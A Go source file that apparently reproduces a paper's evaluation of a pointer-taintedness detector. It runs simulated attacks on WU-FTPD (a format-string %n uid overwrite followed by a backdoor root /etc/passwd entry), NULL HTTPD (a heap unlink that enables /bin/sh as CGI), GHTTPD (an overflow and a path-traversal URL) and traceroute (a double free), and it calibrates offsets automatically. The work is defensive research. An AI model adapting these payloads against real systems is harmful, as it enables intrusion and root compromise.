package attack

import (
	"fmt"
	"strings"

	"repro/internal/cpu"
	"repro/internal/isa"
	"repro/internal/netsim"
	"repro/internal/taint"
)

// wordBytes renders a 32-bit value as the little-endian byte string an
// attacker embeds in a payload.
func wordBytes(v uint32) string {
	return string([]byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)})
}

// lineSafe reports whether an address can travel through a line-oriented
// protocol reader (no NUL, LF, or CR bytes).
func lineSafe(v uint32) bool {
	for i := 0; i < 4; i++ {
		b := byte(v >> (8 * i))
		if b == 0 || b == '\n' || b == '\r' {
			return false
		}
	}
	return true
}

// ---------------------------------------------------------------------------
// WU-FTPD (Table 2 and §5.1.2)
// ---------------------------------------------------------------------------

// ftpLogin boots the FTP victim and authenticates the attacker's session,
// returning the machine and connection.
func ftpLogin(opts Options) (*Machine, ftpConn, error) {
	m, err := bootFTP(opts)
	if err != nil {
		return nil, ftpConn{}, err
	}
	conn, err := ftpAuth(m)
	if err != nil {
		return nil, ftpConn{}, err
	}
	return m, conn, nil
}

// bootFTP boots wuftpd to its accept loop — the natural snapshot point for
// campaign replay, since everything up to here is session-independent.
func bootFTP(opts Options) (*Machine, error) {
	p, err := mustProg("wuftpd")
	if err != nil {
		return nil, err
	}
	// Attack sessions complete within a few million instructions; the
	// tight budget keeps wrong-offset calibration probes (which can send
	// the victim into a corrupted-state loop) cheap.
	opts.Budget = 20_000_000
	m, err := Boot(p, opts)
	if err != nil {
		return nil, err
	}
	if err := m.RunToBlock(); err != nil {
		return nil, fmt.Errorf("ftpd did not reach accept: %w", err)
	}
	return m, nil
}

// ftpAuth returns an authenticated session on the ftpd. A machine that
// already holds an open connection (a fork of a snapshot taken after the
// login) continues on its latest one; a booted (accept-blocked) ftpd is
// connected to and logged in.
func ftpAuth(m *Machine) (ftpConn, error) {
	if peers := m.Peers(); len(peers) > 0 {
		return ftpConn{m: m, ep: peers[len(peers)-1]}, nil
	}
	ep, err := m.Connect(21)
	if err != nil {
		return ftpConn{}, err
	}
	conn := ftpConn{m: m, ep: ep}
	greeting, err := conn.cmd("")
	if err != nil || !strings.Contains(greeting, "220") {
		return ftpConn{}, fmt.Errorf("no FTP greeting (got %q, err %v)", greeting, err)
	}
	if out, err := conn.cmd("USER user1"); err != nil || !strings.Contains(out, "331") {
		return ftpConn{}, fmt.Errorf("USER failed: %q %v", out, err)
	}
	if out, err := conn.cmd("PASS xxxxxxx"); err != nil || !strings.Contains(out, "230") {
		return ftpConn{}, fmt.Errorf("PASS failed: %q %v", out, err)
	}
	return conn, nil
}

type ftpConn struct {
	m  *Machine
	ep *netsim.Endpoint
}

// cmd sends one FTP command line and returns the server's response; a
// terminal machine error is returned as err.
func (c ftpConn) cmd(line string) (string, error) {
	input := ""
	if line != "" {
		input = line + "\r\n"
	}
	return c.m.Transact(c.ep, input)
}

// WuFTPDNonControl reproduces the paper's Table 2 attack: a SITE EXEC
// format string whose %n dereferences the embedded address of the uid
// word. Pointer taintedness alerts at the store in vfprintf with the uid
// address in the register; the control-data baseline misses it, the uid is
// corrupted to a system-account value, and STOR plants a backdoor
// /etc/passwd entry.
func WuFTPDNonControl(opts Options) (Outcome, error) {
	payload, uidAddr, err := CalibrateWuFTPDFormat()
	if err != nil {
		return Outcome{}, err
	}
	m, conn, err := ftpLogin(opts)
	if err != nil {
		return Outcome{}, err
	}
	_, runErr := conn.cmd(payload)
	out := Classify(runErr)
	if out.Detected || out.Crashed {
		return out, nil
	}
	// Undetected: verify the escalation end to end, exactly the paper's
	// scenario — upload a backdoor /etc/passwd granting root to "alice".
	uid, _, err := m.Mem.LoadWord(uidAddr)
	if err != nil || uid >= 100 {
		return out, fmt.Errorf("uid not corrupted: %#x (%v)", uid, err)
	}
	if _, err := conn.cmd("STOR /etc/passwd"); err != nil {
		return Outcome{}, err
	}
	backdoor := "alice:x:0:0::/home/root:/bin/bash"
	if resp, err := conn.cmd(backdoor); err != nil || !strings.Contains(resp, "226") {
		return Outcome{}, fmt.Errorf("STOR failed: %q %v", resp, err)
	}
	data, ok := m.Kernel.FS.ReadFile("/etc/passwd")
	if ok && strings.Contains(string(data), backdoor) {
		out.Compromised = true
		out.Evidence = fmt.Sprintf("uid overwritten to %d via %%n at %#x; backdoor /etc/passwd uploaded", uid, uidAddr)
	}
	return out, nil
}

type ftpFormatCalib struct {
	payload string
	uidAddr uint32
}

// CalibrateWuFTPDFormat probes the %x walk distance that lands %n on the
// embedded uid address, returning the SITE EXEC payload and the address.
func CalibrateWuFTPDFormat() (string, uint32, error) {
	c, err := calibrated("wuftpd-format", calibrateWuFTPDFormat)
	return c.payload, c.uidAddr, err
}

func calibrateWuFTPDFormat() (ftpFormatCalib, error) {
	payload, addr, err := rawCalibrateWuFTPDFormat()
	return ftpFormatCalib{payload: payload, uidAddr: addr}, err
}

func rawCalibrateWuFTPDFormat() (string, uint32, error) {
	// Resolve the target address from a victim build (the attacker's local
	// copy of the binary).
	p, err := mustProg("wuftpd")
	if err != nil {
		return "", 0, err
	}
	im, err := p.Build()
	if err != nil {
		return "", 0, err
	}
	uidAddr, ok := im.Symbols["uid"]
	if !ok {
		return "", 0, fmt.Errorf("uid symbol missing")
	}
	if !lineSafe(uidAddr) {
		return "", 0, fmt.Errorf("uid address %#x contains protocol-unsafe bytes; adjust __bss_pad", uidAddr)
	}
	for k := 0; k <= 24; k++ {
		payload := "SITE EXEC " + wordBytes(uidAddr) + strings.Repeat("%x", k) + "%n"
		_, conn, err := ftpLogin(Options{Policy: taint.PolicyPointerTaintedness})
		if err != nil {
			return "", 0, err
		}
		_, runErr := conn.cmd(payload)
		out := Classify(runErr)
		if out.Detected && out.Alert.Value == uidAddr {
			return payload, uidAddr, nil
		}
	}
	return "", 0, fmt.Errorf("wuftpd format-string calibration failed")
}

// WuFTPDControl is the classic control-data attack on the FTP daemon: a
// CWD argument overflows do_cwd's stack buffer and taints the saved return
// address (consumed at JR), which both the paper's policy and the
// control-data baseline catch.
func WuFTPDControl(opts Options) (Outcome, error) {
	const target = 0x61616160 // word-aligned tainted jump target
	fill, err := calibrateWuFTPDCWD(target)
	if err != nil {
		return Outcome{}, err
	}
	_, conn, err := ftpLogin(opts)
	if err != nil {
		return Outcome{}, err
	}
	_, runErr := conn.cmd("CWD " + strings.Repeat("a", fill) + wordBytes(target))
	out := Classify(runErr)
	if out.Crashed {
		out.Compromised = true
		out.Evidence = fmt.Sprintf("return address hijacked to %#x: %s", uint32(target), out.Evidence)
	}
	return out, nil
}

func calibrateWuFTPDCWD(target uint32) (int, error) {
	return calibrated("wuftpd-cwd", func() (int, error) {
		return rawCalibrateWuFTPDCWD(target)
	})
}

func rawCalibrateWuFTPDCWD(target uint32) (int, error) {
	for fill := 60; fill <= 96; fill += 4 {
		_, conn, err := ftpLogin(Options{Policy: taint.PolicyPointerTaintedness})
		if err != nil {
			return 0, err
		}
		_, runErr := conn.cmd("CWD " + strings.Repeat("a", fill) + wordBytes(target))
		out := Classify(runErr)
		if out.Detected && out.Alert.Kind == taint.AlertJumpTarget && out.Alert.Value == target {
			return fill, nil
		}
	}
	return 0, fmt.Errorf("wuftpd CWD overflow calibration failed")
}

// ---------------------------------------------------------------------------
// NULL HTTPD (§5.1.2)
// ---------------------------------------------------------------------------

// httpPost drives the negative-Content-Length POST with the given heap
// payload and returns the terminal error (nil while the guest lives on).
func httpPost(m *Machine, body string) error {
	ep, err := m.Connect(80)
	if err != nil {
		return err
	}
	req := "POST /upload HTTP/1.0\r\nContent-Length: -800\r\n\r\n" + body
	if _, err := m.Transact(ep, req); err != nil {
		return err
	}
	// End the body stream so the read loop finishes and free() runs.
	ep.Close()
	return m.Run()
}

// nullHTTPDHeapBody builds the overflow body: filler to the adjacent free
// chunk, a benign fake header, then the fd/bk words of the unlink write
// primitive (*(fd+8) = bk).
func nullHTTPDHeapBody(fd, bk uint32) string {
	return strings.Repeat("A", 228) + wordBytes(24) + wordBytes(fd) + wordBytes(bk)
}

// NullHTTPDNonControl overwrites the cgi_unrestricted config word through
// the unlink primitive, then requests /bin/sh as a CGI program — the
// paper's CGI-BIN non-control-data attack.
func NullHTTPDNonControl(opts Options) (Outcome, error) {
	p, err := mustProg("nullhttpd")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, opts)
	if err != nil {
		return Outcome{}, err
	}
	if err := m.RunToBlock(); err != nil {
		return Outcome{}, err
	}
	cfgAddr, err := m.Symbol("cgi_unrestricted")
	if err != nil {
		return Outcome{}, err
	}
	padAddr, err := m.Symbol("cgipath")
	if err != nil {
		return Outcome{}, err
	}
	// fd targets the config word; bk is a harmless aligned data address
	// whose (nonzero) value becomes the new config contents.
	runErr := httpPost(m, nullHTTPDHeapBody(cfgAddr-8, padAddr))
	out := Classify(runErr)
	if out.Detected || out.Crashed {
		return out, nil
	}
	// Server survived: fetch the shell through the now-unrestricted CGI.
	ep2, err := m.Connect(80)
	if err != nil {
		return Outcome{}, err
	}
	resp, runErr := m.Transact(ep2, "GET /bin/sh HTTP/1.0\r\n\r\n")
	if term := Classify(runErr); term.Detected || term.Crashed {
		return term, nil
	}
	if strings.Contains(resp, "EXEC /bin/sh") {
		out.Compromised = true
		out.Evidence = "CGI restriction disabled via heap unlink; server executed /bin/sh"
	}
	return out, nil
}

// NullHTTPDControl aims the unlink write at the request handler's saved
// return address, planting a tainted jump target — the published
// control-data exploit shape.
func NullHTTPDControl(opts Options) (Outcome, error) {
	raSlot, err := calibrateNullHTTPDRASlot()
	if err != nil {
		return Outcome{}, err
	}
	p, err := mustProg("nullhttpd")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, opts)
	if err != nil {
		return Outcome{}, err
	}
	if err := m.RunToBlock(); err != nil {
		return Outcome{}, err
	}
	// The write vector is bk (*(bk+4) = fd): the unlink's later free-list
	// head update rewrites *(fd+8), so an fd-based vector would be
	// stomped; bk-based writes survive. fd doubles as the tainted jump
	// target that lands in the return-address slot.
	const target = 0x61616160
	runErr := httpPost(m, nullHTTPDHeapBody(target, raSlot-4))
	out := Classify(runErr)
	if out.Crashed {
		out.Compromised = true
		out.Evidence = fmt.Sprintf("handler return hijacked to %#x: %s", uint32(target), out.Evidence)
	}
	return out, nil
}

// calibrateNullHTTPDRASlot recovers the handler frame's return-address
// slot by probing a local copy with a benign request (attacker-side
// debugging).
func calibrateNullHTTPDRASlot() (uint32, error) {
	return calibrated("nullhttpd-raslot", rawCalibrateNullHTTPDRASlot)
}

func rawCalibrateNullHTTPDRASlot() (uint32, error) {
	p, err := mustProg("nullhttpd")
	if err != nil {
		return 0, err
	}
	m, err := Boot(p, Options{Policy: taint.PolicyOff})
	if err != nil {
		return 0, err
	}
	handleAddr, err := m.Symbol("handle")
	if err != nil {
		return 0, err
	}
	var spAtEntry uint32
	m.CPU.AddProbe(handleAddr, func(c *cpu.CPU) {
		if spAtEntry == 0 {
			spAtEntry = c.Reg(isa.RegSP)
		}
	})
	if err := m.RunToBlock(); err != nil {
		return 0, err
	}
	ep, err := m.Connect(80)
	if err != nil {
		return 0, err
	}
	if _, err := m.Transact(ep, "GET / HTTP/1.0\r\n\r\n"); err != nil {
		return 0, err
	}
	if spAtEntry == 0 {
		return 0, fmt.Errorf("probe never hit handle()")
	}
	// Prologue saves $ra at (entry sp)-4.
	return spAtEntry - 4, nil
}

// ---------------------------------------------------------------------------
// GHTTPD (§5.1.2)
// ---------------------------------------------------------------------------

// GHTTPDNonControl is the paper's URL-pointer attack: the Log() overflow
// rewrites the already-policy-checked URL pointer to an illegitimate URL
// ("/cgi-bin/../../../../bin/sh") carried later in the same request. The
// tainted pointer is dereferenced by a load-byte in serve().
func GHTTPDNonControl(opts Options) (Outcome, error) {
	reqBase, err := calibrateGHTTPDReqBase()
	if err != nil {
		return Outcome{}, err
	}
	const evil = "/cgi-bin/../../../../bin/sh"
	// Line 1 is 204 bytes: "GET " + 196 filler + pointer; the copy lands
	// the pointer exactly on the url local. Line 2 carries the
	// illegitimate URL, optionally shifted with '/' padding until the
	// pointer has no protocol-unsafe bytes.
	for pad := 0; pad < 16; pad++ {
		// Line 2 starts after line 1 (204 payload bytes + the trailing
		// space + newline the parser needs, exactly as in the paper's
		// request shape).
		target := reqBase + 206 + uint32(pad)
		if !lineSafe(target) || strings.Contains(wordBytes(target), " ") ||
			strings.Contains(wordBytes(target), "/..") {
			continue
		}
		line1 := "GET " + strings.Repeat("A", 196) + wordBytes(target) + " "
		line2 := strings.Repeat("/", pad) + evil
		return runGHTTPD(opts, line1+"\n"+line2+"\n", evil)
	}
	return Outcome{}, fmt.Errorf("no protocol-safe pointer encoding found near %#x", reqBase)
}

// GHTTPDControl is the classic long-URL stack smash: the copy overruns the
// saved return address with tainted bytes.
func GHTTPDControl(opts Options) (Outcome, error) {
	const target = 0x61616160
	line1 := "GET " + strings.Repeat("A", 204) + wordBytes(target)
	out, err := runGHTTPD(opts, line1+"\n", "")
	if err != nil {
		return out, err
	}
	if out.Crashed {
		out.Compromised = true
		out.Evidence = fmt.Sprintf("return address hijacked to %#x: %s", uint32(target), out.Evidence)
	}
	return out, nil
}

func runGHTTPD(opts Options, request, evil string) (Outcome, error) {
	p, err := mustProg("ghttpd")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, opts)
	if err != nil {
		return Outcome{}, err
	}
	if err := m.RunToBlock(); err != nil {
		return Outcome{}, err
	}
	ep, err := m.Connect(8080)
	if err != nil {
		return Outcome{}, err
	}
	resp, runErr := m.Transact(ep, request)
	out := Classify(runErr)
	if out.Detected {
		return out, nil
	}
	// The server may crash on its corrupted frame after the damage is
	// done; the compromise evidence is in the response it already sent.
	if evil != "" && strings.Contains(resp, "EXEC "+evil) {
		out.Compromised = true
		out.Evidence = "path-traversal policy bypassed: server executed " + evil
	}
	return out, nil
}

// calibrateGHTTPDReqBase recovers the request buffer's address by probing
// handle()'s second argument on a benign run.
func calibrateGHTTPDReqBase() (uint32, error) {
	return calibrated("ghttpd-reqbase", rawCalibrateGHTTPDReqBase)
}

func rawCalibrateGHTTPDReqBase() (uint32, error) {
	p, err := mustProg("ghttpd")
	if err != nil {
		return 0, err
	}
	m, err := Boot(p, Options{Policy: taint.PolicyOff})
	if err != nil {
		return 0, err
	}
	handleAddr, err := m.Symbol("handle")
	if err != nil {
		return 0, err
	}
	var reqBase uint32
	m.CPU.AddProbe(handleAddr, func(c *cpu.CPU) {
		if reqBase == 0 {
			// Stack calling convention: args at sp+0 (conn), sp+4 (req).
			w, _, err := m.Mem.LoadWord(c.Reg(isa.RegSP) + 4)
			if err == nil {
				reqBase = w
			}
		}
	})
	if err := m.RunToBlock(); err != nil {
		return 0, err
	}
	ep, err := m.Connect(8080)
	if err != nil {
		return 0, err
	}
	if _, err := m.Transact(ep, "GET /index.html HTTP/1.0\n"); err != nil {
		return 0, err
	}
	if reqBase == 0 {
		return 0, fmt.Errorf("probe never captured the request buffer address")
	}
	return reqBase, nil
}

// ---------------------------------------------------------------------------
// traceroute (§5.1.2)
// ---------------------------------------------------------------------------

// TracerouteDoubleFree is the LBNL traceroute attack: "-g 123 -g 5.6.7.8"
// makes savestr's pool be freed twice with argument bytes sitting in the
// chunk's link words; free()'s consolidation dereferences them (the paper:
// a store inside free() on a tainted word built from the argument text).
func TracerouteDoubleFree(opts Options) (Outcome, error) {
	p, err := mustProg("traceroute")
	if err != nil {
		return Outcome{}, err
	}
	opts.Args = []string{"-g", "123", "-g", "5.6.7.8"}
	m, err := Boot(p, opts)
	if err != nil {
		return Outcome{}, err
	}
	out := Classify(m.Run())
	if out.Detected {
		return out, nil
	}
	if out.Crashed {
		// "Traceroute crashes because free() is using an invalid pointer
		// in an invalid malloc() header" — the CVE's observable behaviour
		// when no detector stops the consolidation.
		out.Compromised = true
		out.Evidence = "free() consolidated through argv bytes 0x2e362e35 (\"5.6.\"): " + out.Evidence
		return out, nil
	}
	out.Compromised = true
	out.Evidence = "double free consolidated through argv bytes; heap corrupted silently"
	return out, nil
}

// TranscriptEntry is one line of a recorded attack session.
type TranscriptEntry struct {
	Who  string // "server", "client", or "alert"
	Text string
}

// WuFTPDTable2 replays the paper's Table 2 session — greeting, USER, PASS,
// then the malicious SITE EXEC — under pointer taintedness (whatever
// opts.Policy says), returning the dialogue transcript ending in the
// security alert line.
func WuFTPDTable2(opts Options) ([]TranscriptEntry, Outcome, error) {
	payload, _, err := CalibrateWuFTPDFormat()
	if err != nil {
		return nil, Outcome{}, err
	}
	var transcript []TranscriptEntry
	record := func(who, text string) {
		for _, line := range strings.Split(strings.TrimRight(text, "\r\n"), "\n") {
			line = strings.TrimRight(line, "\r")
			if line != "" {
				transcript = append(transcript, TranscriptEntry{Who: who, Text: line})
			}
		}
	}
	opts.Policy = taint.PolicyPointerTaintedness
	_, conn, err := ftpLogin(opts)
	if err != nil {
		return nil, Outcome{}, err
	}
	// Reconstruct the dialogue so far (ftpLogin consumed it).
	record("server", "220 FTP server (Version wu-2.6.0(60) Mon Nov 29 10:37:55 CST 2004) ready.")
	record("client", "USER user1")
	record("server", "331 Password required for user1 .")
	record("client", "PASS xxxxxxx")
	record("server", "230 User user1 logged in.")
	record("client", printablePayload(payload))
	resp, runErr := conn.cmd(payload)
	record("server", resp)
	out := Classify(runErr)
	if out.Detected {
		record("alert", out.Alert.Error())
	}
	return transcript, out, nil
}

// printablePayload renders raw attack bytes with C-style hex escapes, as
// the paper prints "site exec \x20\xbc\x02\x10%x...".
func printablePayload(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 32 && c < 127 {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "\\x%02x", c)
		}
	}
	return b.String()
}
